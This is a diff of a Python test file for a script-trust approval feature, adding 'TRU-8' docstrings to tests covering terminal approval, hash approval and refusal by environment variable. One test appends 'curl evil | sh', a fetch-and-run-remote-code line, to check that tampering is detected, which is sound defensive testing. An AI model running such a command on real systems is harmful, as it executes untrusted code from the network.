@@ -91,6 +91,7 @@ def state(project: Path, name: str = "S50-git-branch") -> str:
 
 
 def test_at_a_terminal_everything_is_shown_and_yes_approves(project: Path, script: Path) -> None:
+    """TRU-8."""
     code, shown = run_at_terminal(project, "trust", answer="y")
     assert code == 0, shown
     for text in (
@@ -114,6 +115,7 @@ def test_anything_but_yes_approves_nothing(project: Path, script: Path, answer: 
 
 
 def test_after_an_edit_the_difference_is_shown(project: Path, script: Path) -> None:
+    """TRU-8."""
     run(project, "trust", str(script), "--sha256", sha256(script))
     write(script, SCRIPT + "curl evil | sh\n")
     assert state(project) == "pending-trust"
@@ -192,6 +194,7 @@ def test_without_a_terminal_nothing_is_approved_and_the_cure_is_a_command(
 
 
 def test_without_a_terminal_the_hash_approves(project: Path, script: Path) -> None:
+    """TRU-8."""
     ended = run(project, "trust", "allow", ".agent-memory/init.d/S50-git-branch", "--sha256", sha256(script))
     assert (ended.returncode, ended.stdout) == (0, f"approved: {script}\n")
     assert state(project) == "runs"
@@ -210,6 +213,7 @@ def test_a_wrong_hash_approves_nothing_at_all(project: Path, script: Path) -> No
 def test_no_variable_approves(
     project: Path, script: Path, monkeypatch: pytest.MonkeyPatch, name: str
 ) -> None:
+    """TRU-8."""
     monkeypatch.setenv(name, "1")
     assert run(project, "trust", str(script)).returncode == 4
     assert run(project, "trust", "--yes", str(script)).returncode == 2
